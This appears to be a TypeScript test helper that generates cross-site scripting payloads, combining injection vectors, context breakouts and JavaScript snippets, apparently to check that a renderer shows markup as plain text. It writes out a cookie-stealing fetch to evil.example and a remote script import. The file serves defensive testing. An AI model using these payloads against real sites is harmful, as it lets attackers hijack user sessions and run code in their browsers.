const hit = "window.__executed=1";
const beacon = "fetch('http://evil.example/'+document.cookie)";
const code = [hit, beacon, "alert(1)", "import('//evil.example/x.js')", `top.postMessage(1);${hit}`];

/** Ways to make a browser run code in a text. */
const vectors: ((code: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x>`,
  (js) => `<iframe srcdoc="<script>${js}</script>">`,
  (js) => `<iframe src="javascript:${js}">`,
  (js) => `<body onload="${js}">`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<math><mtext><style><img src onerror="${js}">`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `<object data="javascript:${js}">`,
  (js) => `<base href="//evil.example/"><i>${js}</i>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<style>@import '//evil.example/x';</style>${js}`,
  (js) => `<template><s${""}cript>${js}</template>`,
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `\${${js}}`,
  (js) => `");${js};//`,
  (js) => `\\u003cscript>${js}\\u003c/script>`,
];
/** What could end the context around the text: an attribute, a script, a comment, or RSC's data stream. */
const breakouts = ["", '">', "'>", "</script>", "-->", "]]>", '"]]\n0:"', "</title></textarea>", "&lt;", "\\"];

/** `count` different texts, spread evenly over all ways. None is longer than what a page shows. */
export function markupPayloads(count: number): string[] {
  const all = breakouts.flatMap((out) => vectors.flatMap((vector) => code.map((js) => out + vector(js))));
  const short = [...new Set(all)].filter((text) => text.length <= 118);
  if (short.length < count) throw new Error(`there are ${short.length} payloads, not ${count}`);
  return Array.from({ length: count }, (_, index) => short[Math.floor((index * short.length) / count)] ?? "");
}

/** The text as `plainText` shows it. */
export function asShown(text: string): string {
  return text.replace(/[\t\n\r]+/g, " ").trim();
}
